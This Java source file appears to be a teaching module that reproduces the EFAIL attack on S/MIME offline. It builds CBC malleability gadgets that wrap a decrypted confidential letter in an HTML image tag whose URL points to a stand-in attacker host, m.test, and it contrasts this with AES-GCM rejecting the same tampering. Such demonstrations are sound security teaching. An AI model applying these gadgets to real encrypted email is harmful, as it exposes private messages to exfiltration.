package org.envelopelab.smime;

import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import org.envelopelab.pki.CertificateAuthority;
import org.envelopelab.pki.Credential;
import org.envelopelab.pki.KeyType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Clock;
import java.util.Arrays;
import java.util.List;
import java.util.Properties;

/**
 * The EFAIL lesson, offline (Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email
 * Encryption using Exfiltration Channels", USENIX Security 2018). CBC decryption XORs each
 * decrypted block with the ciphertext block before it (the first with the IV), so whoever knows
 * one plaintext block P and its ciphertext block C can make a "gadget": the two blocks (X, C) with
 * X = IV xor P xor T decrypt to one block of garbage (X itself, decrypted) and then T, any block
 * they choose, without the key. Gadgets can be placed anywhere in the ciphertext and mixed with
 * the original blocks, so the attacker builds, around the original plaintext, an HTML image
 * whose URL the plaintext becomes part of:
 * <pre>
 * IV' = IV xor P1 xor T1, then C1        -&gt; T1 = &lt;img alt="...     (the first block needs no garbage)
 * X2, C1                                  -&gt; garbage, T2 = " src="//m.test/
 * IV, C1, C2 ... Cn                       -&gt; garbage, P1 ... Pn  (the original plaintext, in the URL)
 * X3, C1                                  -&gt; garbage, T3 = "&gt; and valid padding
 * </pre>
 * The first garbage block falls inside the alt text, the second and third inside the URL, where
 * a browser keeps them. Nothing in EnvelopedData notices. The same change to an AES-GCM message
 * fails its tag. Nothing is rendered, nothing is fetched.
 */
public final class EfailLesson {

    /** What every S/MIME body starts with, so an attacker knows it: the first 16 bytes of the encrypted entity. */
    static final String KNOWN_BLOCK = "Content-Type: te";
    /** The chosen blocks: the image tag opens with an alt text that swallows the first garbage block ... */
    static final String OPENING = "<img alt=\"mail  ";
    /** ... then the link to the attacker's server (m.test: a name reserved for tests, RFC 2606) ... */
    static final String LINK = "\" src=\"//m.test/";
    /** ... and after the plaintext the end of the link and the tag, with the 14 bytes of padding CBC strips. */
    static final String CLOSING = "\">" + "\u000e".repeat(14);
    static final int BLOCK = 16;

    private static final String LETTER = "From: alice@contoso.example\r\n"
            + "To: bob@contoso.example\r\n"
            + "Subject: Merger plans\r\n"
            + "Content-Type: text/plain; charset=us-ascii\r\n"
            + "Content-Transfer-Encoding: 7bit\r\n"
            + "\r\n"
            + "Bob, we sign with Fabrikam on Friday. Keep it to yourself.\r\n";

    private EfailLesson() {
    }

    /** Runs the lesson against a recipient the lab makes for it. */
    public static EfailReport run() throws SmimeException {
        CertificateAuthority ca = CertificateAuthority.create("Lesson Root CA", "Contoso", Clock.systemUTC(), new SecureRandom());
        return run(ca.issue("bob@contoso.example", "Bob Baker", KeyType.RSA_2048));
    }

    /** Runs the lesson with messages encrypted to this recipient, who then decrypts what the attacker sent on. */
    public static EfailReport run(Credential recipient) throws SmimeException {
        Session session = Session.getInstance(new Properties());

        InterceptedMessage cbc = InterceptedMessage.of(encrypt(session, recipient, ContentCipher.AES_256_CBC));
        byte[] iv = cbc.iv();
        byte[] original = cbc.ciphertext();
        byte[] first = Arrays.copyOf(original, BLOCK);
        ByteArrayOutputStream rebuilt = new ByteArrayOutputStream();
        rebuilt.writeBytes(first);                                   // with the new IV: OPENING
        rebuilt.writeBytes(gadget(iv, LINK));                        // garbage, LINK
        rebuilt.writeBytes(first);
        rebuilt.writeBytes(iv);                                      // garbage, then the original plaintext
        rebuilt.writeBytes(original);
        rebuilt.writeBytes(gadget(iv, CLOSING));                     // garbage, CLOSING
        rebuilt.writeBytes(first);
        MimeMessage cbcAttacked = cbc.withIv(gadget(iv, OPENING)).withCiphertext(rebuilt.toByteArray()).message(session);
        String decrypted;
        boolean cbcWithoutError;
        try {
            decrypted = new String(decryptedEntity(cbcAttacked, recipient), StandardCharsets.ISO_8859_1);
            cbcWithoutError = true;
        } catch (SmimeException e) {
            decrypted = "";
            cbcWithoutError = false;
        }

        byte[] mask = xor(bytes(KNOWN_BLOCK), bytes(OPENING));
        InterceptedMessage gcm = InterceptedMessage.of(encrypt(session, recipient, ContentCipher.AES_256_GCM));
        byte[] ciphertext = gcm.ciphertext();
        System.arraycopy(xor(Arrays.copyOf(ciphertext, BLOCK), mask), 0, ciphertext, 0, BLOCK);
        String gcmOutcome;
        try {
            decryptedEntity(gcm.withCiphertext(ciphertext).message(session), recipient);
            gcmOutcome = "decrypted without error (GCM should have caught this)";
        } catch (SmimeException e) {
            gcmOutcome = e.getMessage();
        }
        String letterEntity = LETTER.substring(LETTER.indexOf("Content-Type:"));
        return new EfailReport(KNOWN_BLOCK, List.of(OPENING, LINK, CLOSING.substring(0, 2)), decrypted, letterEntity,
                cbcWithoutError, gcmOutcome);
    }

    /** The block that, placed before the first ciphertext block, makes that block decrypt to {@code chosen}. */
    private static byte[] gadget(byte[] iv, String chosen) {
        return xor(xor(iv, bytes(KNOWN_BLOCK)), bytes(chosen));
    }

    private static MimeMessage encrypt(Session session, Credential recipient, ContentCipher cipher) throws SmimeException {
        MimeMessage letter = MessageBytes.message(LETTER.getBytes(StandardCharsets.US_ASCII), session);
        return Smime.encrypt(letter, List.of(recipient.certificate()), new EncryptionOptions(cipher, KeyTransport.RSA_OAEP_SHA256));
    }

    /** What the recipient's client decrypts: the same code as {@link Smime#decrypt}, keeping only the decrypted entity. */
    private static byte[] decryptedEntity(MimeMessage message, Credential recipient) throws SmimeException {
        ByteArrayOutputStream entity = new ByteArrayOutputStream();
        try {
            EnvelopeReader.unsealEntity(new ByteArrayInputStream(MessageBytes.of(message)), entity, recipient);
        } catch (IOException e) {
            throw new IllegalStateException("writing to memory cannot fail", e);
        }
        return entity.toByteArray();
    }

    private static byte[] xor(byte[] a, byte[] b) {
        byte[] result = new byte[a.length];
        for (int i = 0; i < a.length; i++) {
            result[i] = (byte) (a[i] ^ b[i]);
        }
        return result;
    }

    private static byte[] bytes(String block) {
        return block.getBytes(StandardCharsets.ISO_8859_1);
    }
}
